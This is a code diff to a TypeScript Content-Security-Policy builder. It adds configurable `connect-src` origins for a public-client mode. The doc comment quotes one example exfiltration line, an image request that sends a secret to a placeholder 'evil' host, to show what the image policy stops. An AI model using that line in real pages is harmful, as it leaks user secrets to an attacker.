@@ -10,6 +10,12 @@ export interface SecurityHeaderOptions {
   readonly authserverUrl: string;
   /** False when the defence `spa-csp` is weakened: the CSP header is then left out. */
   readonly contentSecurityPolicy: boolean;
+  /**
+   * Other origins the app's own scripts call with `fetch`. None with the BFF (everything goes
+   * through the app's origin); the authorization server and the API in `public-client` mode,
+   * where the browser runs the token requests and calls the API itself.
+   */
+  readonly connectTo?: readonly string[];
 }
 
 /**
@@ -20,21 +26,24 @@ export interface SecurityHeaderOptions {
  *   root, which a stricter policy blocks. Lit's `static styles` use constructable stylesheets,
  *   which CSP does not restrict. Scripts stay strict: that is what stops an injected `<script>`.
  * - `connect-src`: `fetch` may reach the app's origin (where `/bff` and `/api` are) and the HMR
- *   websocket, nothing else: an injected script cannot post what it read to another site.
+ *   websocket, nothing else: an injected script cannot post what it read to another site. In
+ *   `public-client` mode also the authorization server and the API (`connectTo`), which the app
+ *   calls itself; an injected script may call them too, but still cannot reach the attacker.
  * - `img-src 'self' data:`: no exfiltration through `new Image().src = 'https://evil/?' + secret`.
  * - `form-action`: forms may post to the app and to the authorization server, nowhere else.
  * - `frame-ancestors 'none'`: no other site can frame the app (clickjacking).
  * @see https://www.w3.org/TR/CSP3/
  */
-export function buildContentSecurityPolicy(options: Pick<SecurityHeaderOptions, 'appUrl' | 'authserverUrl'>): string {
+export function buildContentSecurityPolicy(options: Pick<SecurityHeaderOptions, 'appUrl' | 'authserverUrl' | 'connectTo'>): string {
   const hmrSocket = options.appUrl.replace(/^http/, 'ws');
+  const connectTo = options.connectTo ?? [];
   const directives: Array<[string, ...string[]]> = [
     ['default-src', "'self'"],
     ['script-src', "'self'"],
     ['style-src', "'self'", "'unsafe-inline'"],
     ['img-src', "'self'", 'data:'],
     ['font-src', "'self'"],
-    ['connect-src', "'self'", hmrSocket],
+    ['connect-src', "'self'", hmrSocket, ...connectTo],
     ['object-src', "'none'"],
     ['base-uri', "'none'"],
     ['form-action', "'self'", options.authserverUrl],
